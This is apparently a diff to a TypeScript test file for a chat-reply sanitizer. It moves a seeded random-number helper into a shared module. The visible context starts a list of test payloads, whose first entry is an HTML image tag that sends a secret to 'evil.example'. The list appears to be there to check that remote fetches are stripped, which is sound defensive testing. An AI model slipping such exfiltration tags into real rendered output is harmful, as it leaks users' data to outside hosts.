@@ -18,6 +18,7 @@ import { parseReplyBundle } from '../../src/protocol/parse';
 import { ReplyData } from '../../src/protocol/bundles';
 import { dropRemote, replyMarkdownOptions, replySanitizer } from '../../src/reply/sanitizer';
 import { ReplyView } from '../../src/reply/view';
+import { rng } from '../generate';
 
 const marked = new Marked(gfmHeadingId(), mangle());
 const parser: IRenderMime.IMarkdownParser = { render: (s: string) => marked.parse(s, { gfm: true, async: true }) };
@@ -78,14 +79,6 @@ function fetches(root: Element): string[] {
 
 // ---- generated layouts
 
-function rng(seed: number): () => number {
-  return () => {
-    seed = (seed + 0x6d2b79f5) | 0;
-    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
-    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
-    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
-  };
-}
 
 const PAYLOADS = [
   '<img src="http://evil.example/img?d=SECRET">',
